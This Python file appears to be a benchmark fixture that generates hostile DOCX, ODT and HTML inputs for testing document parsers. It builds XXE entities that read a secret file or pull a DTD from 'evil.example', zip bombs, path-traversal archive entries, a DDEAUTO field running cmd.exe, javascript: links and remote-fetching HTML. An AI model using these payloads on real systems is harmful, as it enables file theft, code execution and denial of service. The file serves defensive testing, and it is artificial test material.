"""Packed files that mean harm: manuscripts (DOCX, ODT) and tables that come back (DOCX, XLSX)."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator, Mapping

from benchmarks.hostile.case import SECRET, Case, text

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORDS = "国家之间的信任不是自然产生的，它需要时间。" * 5
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ENTITIES = {
    "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>',
    "a file as an entity": f'<!DOCTYPE x [<!ENTITY l9 SYSTEM "file://{SECRET.decode()}">]>',
    "an address as an entity": '<!DOCTYPE x [<!ENTITY l9 SYSTEM "http://evil.example/x">]>',
    "a DTD from elsewhere": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd" [<!ENTITY l9 "">]>',
    "entities of parameters": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "file://{SECRET.decode()}"> %p; <!ENTITY l9 "">]>',
    "an entity without end": '<!DOCTYPE x [<!ENTITY l9 "&l8;"><!ENTITY l8 "&l9;">]>',
    "a long entity often": '<!DOCTYPE x [<!ENTITY l9 "%s">]>' % ("A" * 100_000),
}


def zipped(parts: Mapping[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def docx(
    body: str = "", *, head: str = "", links: str = "", parts: Mapping[str, bytes] | None = None, raw: str = ""
) -> bytes:
    """A manuscript of two paragraphs and what else is said; ``raw``: in the place of the whole body."""
    kind = "application/vnd.openxmlformats"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
        f'ContentType="{kind}-officedocument.wordprocessingml.document.main+xml"/><Default Extension="rels" '
        f'ContentType="{kind}-package.relationships+xml"/></Types>'
    )
    space = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
    words = f"<w:p><w:r><w:t>{_WORDS}</w:t></w:r></w:p>" * 2
    document = f'{head}<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{raw or words + body}</w:body></w:document>'
    whole = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": f'<Relationships {space}><Relationship Id="r" Type="{_R}/officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
        "word/document.xml": document.encode(),
        "word/_rels/document.xml.rels": f"<Relationships {space}>{links}</Relationships>".encode(),
    }
    return zipped({**whole, **(parts or {})})


def _link(kind: str, target: str) -> str:
    return f'<Relationship Id="x" Type="{_R}/{kind}" Target="{target}" TargetMode="External"/>'


_PICTURE = (
    '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="x" r:embed="x"/>'
    "</w:drawing></w:r></w:p>"
)


def _field(code: str) -> str:
    return f"<w:p><w:r><w:fldSimple w:instr='{code}'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:r></w:p>"


def lying(data: bytes) -> bytes:
    """The same archive, whose parts say that they are small unpacked."""
    out = bytearray(data)
    at = out.find(b"PK\1\2")
    while at >= 0:
        out[at + 24 : at + 28] = struct.pack("<I", 10)
        at = out.find(b"PK\1\2", at + 4)
    return bytes(out)


def overlapping(data: bytes, times: int) -> bytes:
    """An archive whose list names its last part many times: little to store, much to unpack (Fifield, 2019)."""
    end = data.rindex(b"PK\5\6")
    size, place = struct.unpack("<II", data[end + 12 : end + 20])
    rows = data[place : place + size]
    last = rows[rows.rindex(b"PK\1\2") :]
    length = struct.unpack("<H", last[28:30])[0]
    more = b"".join(last[:46] + f"{n:0{length}}".encode()[:length] + last[46 + length :] for n in range(times))
    count = min(0xFFFF, rows.count(b"PK\1\2") + times)
    tail = data[end : end + 8] + struct.pack("<HHIIH", count, count, size + len(more), place, 0)
    return data[:place] + rows + more + tail


def _docx() -> dict[str, Callable[[], bytes]]:
    styles = (
        f'<w:styles xmlns:w="{_W}"><w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style></w:styles>'
    )
    notes = "".join(f'<w:footnote w:id="{n}"><w:p><w:r><w:t>注</w:t></w:r></w:p></w:footnote>' for n in range(30_000))
    calls = "".join(f'<w:r><w:t>文</w:t></w:r><w:r><w:footnoteReference w:id="{n}"/></w:r>' for n in range(30_000))
    deep = "<w:tbl><w:tr><w:tc>" * 5_000
    return {
        "a bomb in a picture": lambda: docx(parts={"word/media/x.png": b"\0" * 1_000_000_000}),
        "a bomb that lies": lambda: lying(docx(parts={"word/media/x.png": b"\0" * 500_000_000})),
        "a bomb in its text": lambda: docx(f"<w:p><w:r><w:t>{'上' * 60_000_000}</w:t></w:r></w:p>"),
        "parts that overlap": lambda: overlapping(docx(parts={"word/media/x": b"\0" * 10_000_000}), 60_000),
        "parts that lead out": lambda: docx(parts={"../../../tmp/evil": b"x", "/tmp/evil": b"x", "C:\\evil": b"x"}),
        "100,000 parts": lambda: docx(parts={f"word/{n}.xml": b"" for n in range(100_000)}),
        "no text": lambda: zipped({"word/x": b""}),
        "two texts": lambda: docx()[:-22] + docx(),
        "a picture from the net": lambda: docx(_PICTURE, links=_link("image", "http://evil.example/a.png")),
        "a picture from a file": lambda: docx(_PICTURE, links=_link("image", f"file://{SECRET.decode()}")),
        "a picture from above": lambda: docx(_PICTURE, links=_link("image", "../../../../../../../etc/hostname").replace(' TargetMode="External"', "")),
        "a template from the net": lambda: docx(links=_link("attachedTemplate", "http://evil.example/a.dotm")),
        "a part from elsewhere": lambda: docx('<w:altChunk r:id="x"/><w:subDoc r:id="x"/>', links=_link("aFChunk", f"file://{SECRET.decode()}")),
        "fields that fetch": lambda: docx(
            _field('INCLUDEPICTURE "http://evil.example/a.png"') + _field(f'INCLUDETEXT "{SECRET.decode()}"') + _field("DDEAUTO c:\\\\cmd.exe calc")
        ),
        "a link that acts": lambda: docx('<w:p><w:hyperlink r:id="x"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>', links=_link("hyperlink", "javascript:alert(1)")),
        "styles that rest on each other": lambda: docx('<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr></w:p>', parts={"word/styles.xml": styles.encode()}),
        "30,000 notes": lambda: docx(
            f"<w:p>{calls}</w:p>",
            links=f'<Relationship Id="f" Type="{_R}/footnotes" Target="footnotes.xml"/>',
            parts={"word/footnotes.xml": f'<w:footnotes xmlns:w="{_W}">{notes}</w:footnotes>'.encode()},
        ),
        "tables 5,000 deep": lambda: docx(deep + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 5_000),
        "a table of a million columns": lambda: docx('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'),
        "a list 100,000 deep": lambda: docx("".join(f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{n}"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>上</w:t></w:r></w:p>' for n in range(1000))),
        "20,000 paragraphs": lambda: docx(f"<w:p><w:r><w:t>{_WORDS}</w:t></w:r></w:p>" * 20_000),
        "a paragraph of 100,000 runs": lambda: docx("<w:p>" + "".join(f"<w:r><w:rPr><w:b w:val='{n % 2}'/></w:rPr><w:t>上{n}</w:t></w:r>" for n in range(100_000)) + "</w:p>"),
        "control signs": lambda: docx("<w:p><w:r><w:t>&#27;[31m&#0;</w:t></w:r></w:p>"),
        **{name: lambda head=head: docx("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>" * 50, head=head) for name, head in ENTITIES.items()},  # type: ignore[misc]
    }  # fmt: skip


def odt(body: str, head: str = "", parts: Mapping[str, bytes] | None = None) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns"
    spaces = " ".join(f'xmlns:{n}="{office}:{n}:1.0"' for n in ("office", "text", "drawing", "table"))
    content = (
        f'{head}<office:document-content {spaces} xmlns:draw="{office}:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<office:body><office:text><text:p>{_WORDS}</text:p>{body}</office:text></office:body></office:document-content>"
    )
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode(), "styles.xml": b"<x/>", **(parts or {})})  # fmt: skip


def _odt() -> dict[str, Callable[[], bytes]]:
    def picture(address: str) -> bytes:
        return odt(f'<text:p><draw:frame><draw:image xlink:href="{address}"/></draw:frame></text:p>')

    return {
        "a bomb": lambda: odt("", parts={"Pictures/x.png": b"\0" * 1_000_000_000}),
        "a bomb that lies": lambda: lying(odt("", parts={"Pictures/x.png": b"\0" * 500_000_000})),
        "parts that lead out": lambda: odt("", parts={"../../../tmp/evil": b"x", "/tmp/evil": b"x"}),
        "a picture from the net": lambda: picture("http://evil.example/a.png"),
        "a picture from a file": lambda: picture(f"file://{SECRET.decode()}"),
        "a picture from above": lambda: picture("../../../../../../etc/hostname"),
        "an object from elsewhere": lambda: odt(f'<draw:object xlink:href="{SECRET.decode()}"/><text:section xlink:href="http://evil.example/"/>'),
        "blanks without end": lambda: odt('<text:p>上<text:s text:c="1000000000"/></text:p>'),
        "a cell a billion times": lambda: odt('<table:table><table:table-column table:number-columns-repeated="1000000000"/><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"/></table:table-row></table:table>'),
        "sections 5,000 deep": lambda: odt("<text:section>" * 5_000 + "</text:section>" * 5_000),
        **{name: lambda head=head: odt("<text:p>&l9;</text:p>" * 50, head) for name, head in ENTITIES.items()},  # type: ignore[misc]
    }  # fmt: skip


def _html() -> dict[str, Callable[[], bytes]]:
    words = f"<p>{_WORDS}</p>" * 2
    net, file = "http://evil.example/a", f"file://{SECRET.decode()}"

    def page(body: str, head: str = "") -> bytes:
        return f"<!DOCTYPE html><html><head><meta charset=utf-8>{head}</head><body>{words}{body}</body></html>".encode()

    fetching = "".join(
        f'<img src="{a}" srcset="{a} 2x"><iframe src="{a}"></iframe><object data="{a}"></object><embed src="{a}"><video src="{a}" poster="{a}">'
        f'</video><svg><image href="{a}"/><use href="{a}#x"/></svg><input type=image src="{a}"><link rel=stylesheet href="{a}">'
        f'<div style="background:url({a})">x</div><a href="{a}" ping="{a}">x</a>'
        for a in (
            net,
            file,
            SECRET.decode(),
            "../../../../../etc/hostname",
            "//evil.example/x",
            "data:text/html,<script>1</script>",
        )
    )
    return {
        "whatever fetches": lambda: page(fetching, f'<base href="{net}"><meta http-equiv=refresh content="0;url={net}"><link rel=import href="{file}">'),
        "whatever runs": lambda: page("<script>document.write(1)</script><p onclick=x() onload=y()>x</p><a href='javascript:x()'>x</a><form action=javascript:x()>"),
        "divisions 20,000 deep": lambda: page("<div>" * 20_000 + "x"),
        "emphasis 5,000 deep": lambda: page("<p>" + "<em>" * 5_000 + "x"),
        "tables 300 deep": lambda: page("<table><tr><td>" * 300 + "x"),
        "quotes 2,000 deep": lambda: page("<blockquote>" * 2_000 + "x"),
        "lists 2,000 deep": lambda: page("<ul><li>" * 2_000 + "x"),
        "a cell of a billion": lambda: page("<table><tr><td colspan=1000000000 rowspan=1000000000>x</td></tr><tr><td>y</td></tr></table>"),
        "a table of 300 by 300": lambda: page("<table>" + ("<tr>" + "<td>上</td>" * 300 + "</tr>") * 300 + "</table>"),
        "100,000 attributes": lambda: page("<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">x</p>"),
        "a million open marks": lambda: page("<" * 1_000_000),
        "a million references": lambda: page("&amp;&#x4e0a;&#1114112;&#0;" * 100_000),
        "a comment without end": lambda: page("<!-- " + "-" * 1_000_000),
        "a list that begins at 10^30": lambda: page(f"<ol start={10**30}><li>x</ol><ol type=i start=99999999999><li>x</ol>"),
        "a coding that isn't": lambda: page("").replace(b"utf-8", b"utf-7") + b"+ADw-script+AD4-",
        "nothing": lambda: b"",
        "noughts": lambda: b"\0" * 1_000_000,
        "an entity of a file": lambda: f'<!DOCTYPE html [<!ENTITY x SYSTEM "{file}">]><p>{_WORDS}&x;</p>'.encode(),
    }  # fmt: skip


def cases() -> Iterator[Case]:
    for ending, group in (("docx", _docx), ("odt", _odt), ("html", _html)):
        for name, make in group().items():
            yield text(name, make, ending)
